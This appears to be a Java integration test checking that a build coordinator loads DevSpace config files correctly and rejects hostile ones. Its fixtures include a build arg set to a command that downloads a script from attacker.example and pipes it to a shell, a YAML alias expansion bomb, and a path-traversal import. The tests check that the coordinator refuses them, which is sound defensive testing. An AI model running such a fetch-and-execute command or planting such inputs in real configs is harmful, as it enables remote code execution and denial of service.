package dev.buildline.app;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.buildline.common.messages.Topics;
import dev.buildline.coordinator.intake.RepositorySettings;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.eclipse.jgit.api.Git;
import org.eclipse.jgit.lib.ObjectId;
import org.eclipse.jgit.lib.ObjectReader;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A devspace.yaml as its team writes it in the v1beta11 layout (build settings under build.buildKit.options, a
 * variable the repository's settings supply, a profile the settings activate whose patch adds a build arg, a git
 * expression in a tag), upgraded as DevSpace upgrades it, pushed by a signed GitHub webhook, loaded as
 * DevSpace loads it, built by the real buildx and pushed to the registry on 127.0.0.1:5000; tags and build args
 * are read back from the registry. Bad input is refused with its path, nothing is built, and the coordinator goes
 * on.
 */
class DevspaceLoadingIT {

    private static final String ZEROS = "0".repeat(40);
    private static final String RUN = UUID.randomUUID().toString().substring(0, 8);
    /** DevSpace 5's layout (v1beta11): vars as a list, the build settings under build.buildKit.options. */
    private static final String DEVSPACE_YAML = """
            version: v1beta11
            vars:
              - name: REGISTRY
                question: Which registry do you push to?
              - name: GREETING
                default: hello-from-the-file
            images:
              app:
                image: ${REGISTRY}/buildline-it/loaded-%s
                context: ./app
                dockerfile: ./app/Dockerfile
                tags:
                  - $(git rev-parse --short HEAD)
                  - ${DEVSPACE_GIT_BRANCH}-${DEVSPACE_RANDOM}
                build:
                  buildKit:
                    options:
                      network: none
                      buildArgs:
                        GREETING: ${GREETING}
                        COMMIT: ${DEVSPACE_GIT_COMMIT}
            profiles:
              - name: ci
                patches:
                  - op: add
                    path: images.app.build.buildKit.options.buildArgs.STAGE
                    value: ci-${GREETING}
            """.formatted(RUN);

    @TempDir
    static Path temp;
    private static TestStack stack;
    private static TestRepo repo;
    private static int port;

    @BeforeAll
    static void start() throws Exception {
        BuildHost.require();
        repo = TestRepo.create(temp.resolve("repo"));
        Path settingsFile = Files.writeString(temp.resolve("repositories.yaml"), """
                - url: %s
                  vars:
                    REGISTRY: %s
                    GREETING: hello-from-settings
                  profiles: [ci]
                """.formatted(repo.url(), BuildHost.REGISTRY));
        RepositorySettings settings = Settings.repositories(Map.of("BUILDLINE_REPOSITORIES_FILE", settingsFile.toString()));
        stack = TestStack.start(temp.resolve("stack"), List.of(repo.url()), true, settings);
        port = stack.port();
    }

    @AfterAll
    static void stop() {
        if (stack != null) {
            stack.close();
        }
        if (repo != null) {
            repo.close();
        }
    }

    @Test
    void aFileWithVarsAProfilePatchAndAGitExpressionBuildsWithDevspacesTagAndArgs() throws Exception {
        String commit = repo.commit("loaded image", Map.of(
                "devspace.yaml", DEVSPACE_YAML,
                "app/Dockerfile", String.join("\n",
                        "FROM " + BuildHost.BASE_IMAGE + " AS build",
                        "ARG GREETING",
                        "ARG STAGE",
                        "ARG COMMIT",
                        "RUN echo \"$GREETING $STAGE $COMMIT\" > /args.txt",
                        "FROM scratch",
                        "COPY --from=build /args.txt /args.txt", "")));
        String shortId = abbreviated(commit);
        String image = BuildHost.REGISTRY + "/buildline-it/loaded-" + RUN;
        String body = Webhooks.pushPayload(repo.url(), "it/app", "refs/heads/main", ZEROS, commit);

        HttpResponse<String> accepted = Webhooks.postGithub(port, "push", Webhooks.sign(TestStack.SECRET, body), body);

        assertThat(accepted.statusCode()).as(accepted.body()).isEqualTo(202);
        String buildId = Webhooks.builds(accepted.body()).get("app");
        JsonNode done = Webhooks.awaitTerminal(port, buildId);
        assertThat(done.path("status").asText()).as(done.toString()).isEqualTo("succeeded");
        List<String> tags = List.of(done.path("tags").get(0).asText(), done.path("tags").get(1).asText());
        assertThat(tags.get(0)).isEqualTo(image + ":" + shortId);
        assertThat(tags.get(1)).matches(image.replace(".", "\\.") + ":main-[a-zA-Z]{6}");
        // DevSpace's argv, with the values the repository's settings gave (its vars, REGISTRY included) masked in
        // what users read, as GitHub Actions masks secrets; the image itself was built with them (args.txt below)
        String masked = "***";
        assertThat(done.path("command")).extracting(JsonNode::asText).containsExactly(
                "docker", "buildx", "build",
                "--build-arg", "COMMIT=" + commit.substring(0, 8),
                "--build-arg", "GREETING=" + masked,
                "--build-arg", "STAGE=ci-" + masked,
                "--network", "none", "--tag", tags.get(0).replace(BuildHost.REGISTRY, masked),
                "--tag", tags.get(1).replace(BuildHost.REGISTRY, masked), "--push",
                "--file", "Dockerfile", "-");
        for (String tag : tags) {
            assertThat(Webhooks.registryDigest(tag)).isEqualTo(done.path("digest").asText());
        }
        assertThat(RegistryImages.files(tags.get(0))).containsEntry("args.txt",
                "hello-from-settings ci-hello-from-settings " + commit.substring(0, 8) + "\n");

        // the git host delivers the same push again: the load is repeatable, so the build is the same one
        HttpResponse<String> again = Webhooks.postGithub(port, "push", Webhooks.sign(TestStack.SECRET, body), body);
        assertThat(again.statusCode()).as(again.body()).isBetween(200, 202);
        assertThat(Webhooks.builds(again.body())).containsEntry("app", buildId);
    }

    @Test
    void aCommandExpressionIsRefusedWithItsPathAndNothingIsBuilt() throws Exception {
        String commit = repo.commit("hostile", Map.of("devspace.yaml", """
                version: v2beta1
                images:
                  app:
                    image: %s/buildline-it/hostile-%s
                    buildArgs:
                      TOKEN: $(curl -s https://attacker.example/x.sh | sh)
                profiles:
                  - name: ci
                """.formatted(BuildHost.REGISTRY, RUN)));
        String body = Webhooks.pushPayload(repo.url(), "it/app", "refs/heads/main", ZEROS, commit);
        long before = stack.recordCount(Topics.defaults().buildRequests());

        HttpResponse<String> refused = Webhooks.postGithub(port, "push", Webhooks.sign(TestStack.SECRET, body), body);

        assertThat(refused.statusCode()).isEqualTo(422);
        assertThat(refused.body()).contains("images.app.buildArgs.TOKEN: the expression '$(curl -s "
                + "https://attacker.example/x.sh | sh)' is not run");
        assertThat(stack.recordCount(Topics.defaults().buildRequests())).isEqualTo(before);
        assertThat(Webhooks.get(port, "/health/live").statusCode()).isEqualTo(200);
    }

    @Test
    void everyKindOfBadInputIsRefusedWithItsPathAndTheCoordinatorGoesOn() throws Exception {
        String image = BuildHost.REGISTRY + "/buildline-it/bad-" + RUN;
        StringBuilder chain = new StringBuilder();
        for (int i = 0; i < 51; i++) {
            chain.append("  - name: ").append(i == 0 ? "ci" : "p" + i).append('\n');
            if (i < 50) {
                chain.append("    parent: p").append(i + 1).append('\n');
            }
        }
        StringBuilder bomb = new StringBuilder("            L0: &l0 [lol, lol]\n");
        for (int i = 1; i < 25; i++) {
            bomb.append("            L").append(i).append(": &l").append(i).append(" [*l").append(i - 1).append(", *l")
                    .append(i - 1).append("]\n");
        }
        String images = "images:\n  app:\n    image: " + image + "\n";
        Map<String, String> cases = new java.util.LinkedHashMap<>();
        cases.put("version: v2beta1\nvars:\n  TOKEN:\n    question: Token?\n" + images
                        + "    buildArgs: {TOKEN: '${TOKEN}'}\nprofiles:\n  - name: ci\n",
                "vars.TOKEN: variable TOKEN has no value");
        cases.put("version: v2beta1\n" + images + "profiles:\n  - name: ci\n    patches:\n"
                        + "      - {op: replace, path: /images/app/target, value: x}\n",
                "profiles[0] (ci).patches[0]: replace operation does not apply: doc is missing path: $.images/app/target");
        cases.put("version: v2beta1\nimports:\n  - path: ../../../etc/devspace.yaml\n" + images
                        + "profiles:\n  - name: ci\n",
                "imports[0].path: '../../../etc/devspace.yaml' leaves the repository");
        cases.put("version: v2beta1\n" + images + "profiles:\n" + chain,
                "profiles: cannot load config with profile p50: max config loading depth reached");
        cases.put("version: v2beta1\n" + images + "profiles:\n  - name: ci\n    merge:\n      images:\n"
                        + "        app:\n          buildArgs:\n" + bomb,
                "YAML nodes once aliases, imports, profiles and variables are resolved");
        long before = stack.recordCount(Topics.defaults().buildRequests());
        for (Map.Entry<String, String> bad : cases.entrySet()) {
            String commit = repo.commit("bad input", Map.of("devspace.yaml", bad.getKey()));
            String body = Webhooks.pushPayload(repo.url(), "it/app", "refs/heads/main", ZEROS, commit);

            HttpResponse<String> refused = Webhooks.postGithub(port, "push", Webhooks.sign(TestStack.SECRET, body), body);

            assertThat(refused.statusCode()).as(refused.body()).isEqualTo(422);
            assertThat(refused.body()).contains(bad.getValue());
        }
        assertThat(stack.recordCount(Topics.defaults().buildRequests())).isEqualTo(before);
        assertThat(Webhooks.get(port, "/health/live").statusCode()).isEqualTo(200);
    }

    private static String abbreviated(String commit) throws Exception {
        try (Git git = Git.open(temp.resolve("repo").toFile()); ObjectReader reader = git.getRepository().newObjectReader()) {
            return reader.abbreviate(ObjectId.fromString(commit), 7).name();
        }
    }
}
